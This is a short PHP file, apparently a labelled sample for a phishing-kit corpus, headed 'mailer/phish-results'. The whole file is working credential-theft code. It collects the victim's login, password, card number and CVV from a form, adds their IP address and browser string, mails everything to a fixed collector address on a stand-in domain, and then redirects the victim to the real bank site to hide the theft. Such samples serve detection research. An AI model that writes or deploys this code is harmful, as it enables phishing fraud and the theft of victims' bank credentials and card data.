<?php
/* Family: mailer/phish-results
 * Style: phishing-kit result sender
 * Trait: login and card fields from POST plus the victim's IP and browser mailed to a fixed address, then a redirect to the real site
 */
$addr = $_SERVER['REMOTE_ADDR'];
$agent = $_SERVER['HTTP_USER_AGENT'];
$out  = "login: " . $_POST['usr'] . "\n";
$out .= "secret: " . $_POST['passwd'] . "\n";
$out .= "number: " . $_POST['card_no'] . " / " . $_POST['cvv'] . "\n";
$out .= "from: $addr $agent\n";
$hd = "From: results <res@kit-demo.test>\r\n";
@mail('collector@mailbox-demo.test', "result $addr", $out, $hd);
header('Location: https://bank-demo.test/');
